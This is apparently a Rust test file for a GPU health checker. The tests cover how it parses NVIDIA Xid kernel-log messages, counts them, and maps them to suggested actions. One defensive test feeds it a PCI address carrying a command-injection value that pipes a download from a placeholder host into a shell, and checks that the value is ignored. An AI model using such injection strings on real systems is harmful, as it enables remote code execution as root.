//! What the checker reads in kernel logs.

use crate::machine::Machine;

/// The evidence of the findings about Xid messages.
fn messages(log: &str) -> Vec<(&'static str, String)> {
    let report = Machine::plain().file("/dev/kmsg", log).check();
    let findings = report.findings().iter();
    let is_xid = |id: &str| ["HR-110", "HR-111", "HR-112"].contains(&id);
    let xids = findings.filter(|finding| is_xid(finding.code.id));
    xids.map(|finding| (finding.code.id, finding.seen.clone()))
        .collect()
}

#[test]
fn messages_are_read_and_counted() {
    let found = messages(
        "6,12,99,-;NVRM: Xid (PCI:0000:3b:00): 31, pid=7, name=train, MMU Fault\n\
         [ 9.1] NVRM: Xid (PCI:0000:3b:00): 31, pid=8, name=train, MMU Fault again\n\
         [ 9.2] NVRM: Xid (0000:af:00): 79, GPU has fallen off the bus.\n\
         NVRM: Xid (PCI:0000:3b:00): many\nNVRM: Xid (\nsomething else",
    );
    let since = "since the last start (/dev/kmsg)";
    assert_eq!(
        found,
        [
            (
                "HR-110",
                format!("Xid 79 of 0000:af:00, {since}: GPU has fallen off the bus.")
            ),
            (
                "HR-111",
                format!(
                    "Xid 31 of 0000:3b:00, 2 times, {since}: pid=8, name=train, MMU Fault again"
                )
            ),
        ]
    );
}

#[test]
fn the_text_of_xid_154_names_the_action() {
    for (text, code, action) in [
        (
            "changed from 0x0 (None) to 0x1 (GPU Reset Required)",
            "HR-110",
            "reset it",
        ),
        (
            "… to 0x2 (Node Reboot Required)",
            "HR-110",
            "restart the machine",
        ),
        ("… to 0x4 (Drain and Reset)", "HR-110", "reset it"),
        ("… to 0x3 (Drain P2P)", "HR-110", "NVLink"),
        ("… to 0x0 (None)", "HR-112", ""),
        ("something new", "HR-112", ""),
    ] {
        let log = format!("NVRM: Xid (PCI:0000:3b:00): 154, {text}");
        let report = Machine::plain().file("/dev/kmsg", log).check();
        let mut findings = report.findings().iter();
        let finding = findings.find(|finding| finding.code.id == code);
        let is_named = finding.is_some_and(|finding| finding.next_step.contains(action));
        assert!(is_named, "{text}\n{report}");
    }
}

#[test]
fn every_xid_has_its_action() {
    let actions = [
        (
            &[8, 11, 13, 25, 31, 32, 39, 40, 41, 69, 94][..],
            "HR-111",
            "compute-sanitizer",
        ),
        (
            &[46, 48, 62, 64, 95, 109, 110, 119, 120, 140, 143, 158],
            "HR-110",
            "reset it",
        ),
        (&[54], "HR-110", "auxiliary power"),
        (&[74], "HR-110", "NVLink"),
        (&[78], "HR-110", "update the driver and the firmware"),
        (&[79], "HR-110", "restart the machine"),
        (&[0, 43, 45, 63, 92, 4242], "HR-112", "look the message up"),
    ];
    for (numbers, code, action) in actions {
        let lines = numbers.iter();
        let lines = lines.map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
        let log = lines.collect::<String>();
        let report = Machine::plain().file("/dev/kmsg", log).check();
        for number in numbers {
            let mut findings = report.findings().iter();
            let start = format!("Xid {number} of 0000:3b:00,");
            let finding = findings.find(|finding| finding.seen.starts_with(&start));
            let finding = finding.unwrap_or_else(|| panic!("{number}\n{report}"));
            assert_eq!(finding.code.id, code, "{number}\n{report}");
            assert!(finding.next_step.contains(action), "{number}\n{report}");
        }
    }
}

/// An address goes into a command that a user may run as root.
#[test]
fn a_message_without_an_address_is_ignored() {
    for address in [
        "PCI:0; curl evil|sh #",
        "",
        "PCI:",
        "0000:3b:00 -i 1",
        "PCI:00000000000000000",
    ] {
        let log = format!("NVRM: Xid ({address}): 79, GPU has fallen off the bus.");
        assert_eq!(messages(&log), [], "{address}");
    }
    let found = messages("NVRM: Xid (PCI:00000000:3b:00.0): 79, off the bus");
    assert!(found[0].1.contains("00000000:3b:00.0"), "{found:?}");
}

#[test]
fn the_newest_of_many_kinds_of_messages_are_reported() {
    let lines = (200..300).map(|number| format!("NVRM: Xid (PCI:0000:3b:00): {number}, x\n"));
    let found = messages(&lines.collect::<String>());
    assert_eq!(found.len(), 65);
    assert!(found[0].1.contains("Xid 236 ") && found[63].1.contains("Xid 299 "));
    assert!(
        found[64].1.starts_with("36 further kinds"),
        "{}",
        found[64].1
    );
}
